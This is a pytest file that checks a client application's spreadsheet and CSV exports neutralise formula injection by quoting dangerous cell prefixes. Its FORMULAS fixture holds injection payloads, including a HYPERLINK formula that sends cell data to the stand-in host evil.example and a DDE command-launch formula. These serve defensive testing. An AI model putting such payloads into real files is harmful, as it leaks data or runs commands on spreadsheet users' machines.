"""Every workbook and CSV Sanwu writes, fed titles that a spreadsheet would run, read back
cell by cell: no cell is a formula, none starts with a formula prefix, numbers stay
numbers (``client.exports.cells``)."""

from __future__ import annotations

import csv
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from client.analysis.duty_scores import ScoreRow
from client.exports.bulletin import export_bulletin
from client.exports.cells import FORMULA_PREFIXES, safe_cell, save_workbook
from client.exports.duty_scores import write_score_table
from client.exports.figures import export_figures
from client.exports.notice import export_disclosures
from client.exports.payments import export_payments
from client.legacy.importer import ImportReport, Reject
from client.legacy.report import write_reject_report
from client.store import Store
from models.figures import FIGURES
from tests.client.conftest import VILLAGE, disclosure
from tests.stores import arrived

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
]


def assert_no_formula_xlsx(path: Path) -> list[Any]:
    """Every cell of every sheet: none a formula, no text starting with a prefix."""
    values: list[Any] = []
    workbook = load_workbook(path)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_PREFIXES), cell.value
                values.append(cell.value)
    return values


def assert_no_formula_csv(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        cells = [value for row in csv.reader(handle) for value in row]
    assert not [value for value in cells if value.startswith(FORMULA_PREFIXES)]
    return cells


@pytest.mark.parametrize("value", FORMULAS)
def test_safe_cell_quotes_formula_prefixes_and_keeps_numbers(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert safe_cell(-5) == -5 and safe_cell(Decimal("-1.5")) == Decimal("-1.5")
    assert safe_cell("十月财务") == "十月财务" and safe_cell(None) is None


def test_save_workbook_neutralises_whatever_a_writer_put(tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["=1+2", "@x", -3, "普通"])
    workbook.create_sheet("二").append(["+cmd"])
    save_workbook(workbook, tmp_path / "w.xlsx")
    values = assert_no_formula_xlsx(tmp_path / "w.xlsx")
    assert values == ["'=1+2", "'@x", -3, "普通", "'+cmd"]


def test_the_notice_board_workbook(enrolled: Store, tmp_path: Path) -> None:
    ids = [
        arrived(
            enrolled,
            "disclosure",
            disclosure(
                period=f"2026-{n + 1:02d}", title=f, content=f, responsible=f, review_opinion=f
            ),
        )
        for n, f in enumerate(FORMULAS)
    ]
    out = tmp_path / "notice.xlsx"
    assert export_disclosures(enrolled, out, ids=ids, fmt="xlsx") == len(FORMULAS)
    values = assert_no_formula_xlsx(out)
    assert "'" + FORMULAS[0] in values


def test_the_payment_list(enrolled: Store, tmp_path: Path) -> None:
    project = arrived(
        enrolled, "subsidy_project", {"org_code": VILLAGE, "category": "agriculture", "name": "=1"}
    )
    arrived(
        enrolled,
        "subsidy_payment",
        {
            "org_code": VILLAGE,
            "project_id": project,
            "recipient_name": "=HYPERLINK(1)",
            "id_number": "11010519491231002X",
            "amount_fen": 100,
            "method": "one_card",
            "account": "@123",
            "unit": "-mu",
        },
    )
    out = tmp_path / "payments.xlsx"
    assert export_payments(enrolled, project, out) == 1
    assert_no_formula_xlsx(out)


def test_the_bulletin_workbook(enrolled: Store, tmp_path: Path) -> None:
    record = arrived(
        enrolled,
        "bulletin",
        {
            "org_code": "150202000000",
            "title": FORMULAS[0],
            "doc_no": "+1",
            "period_from": "2026-07-01",
            "period_to": "2026-09-30",
            "body": FORMULAS[1],
            "named_units": [VILLAGE],
            "issued_on": "2026-11-05",
        },
    )
    out = tmp_path / "bulletin.xlsx"
    export_bulletin(enrolled, record, out, fmt="xlsx")
    assert "'" + FORMULAS[0] in assert_no_formula_xlsx(out)


def test_the_figures_and_score_workbooks(tmp_path: Path) -> None:
    figures = tmp_path / "figures.xlsx"
    counted = {fig.key: -1 for fig in FIGURES}
    export_figures(counted, period="=2026", units="=HYPERLINK(1)", path=figures)
    assert_no_formula_xlsx(figures)
    row = ScoreRow(
        org_code=VILLAGE,
        name="=HYPERLINK(1)",
        level="-village",
        score=Decimal("-1"),
        max=Decimal("100"),
        rank=1,
        missing=("ZT-001",),
    )
    scores = tmp_path / "scores.xlsx"
    write_score_table([row], 2026, scores)
    assert "'=HYPERLINK(1)" in assert_no_formula_xlsx(scores)


def test_the_reject_report_workbook_and_csv(tmp_path: Path) -> None:
    report = ImportReport(
        path=tmp_path / "in.csv",
        kind="disclosure",
        source="in.csv",
        header_line=1,
        headers=["=标题", "+内容"],
        rows=1,
        rejects=[Reject(line=2, cells=[*FORMULAS, -5, 3.5], problems=[])],
    )
    xlsx, csv_path = write_reject_report(report, tmp_path / "rejects.xlsx")
    values = assert_no_formula_xlsx(xlsx)
    assert -5 in values and 3.5 in values  # numbers stay numbers
    cells = assert_no_formula_csv(csv_path)
    assert "'" + FORMULAS[0] in cells and "'=标题" in cells
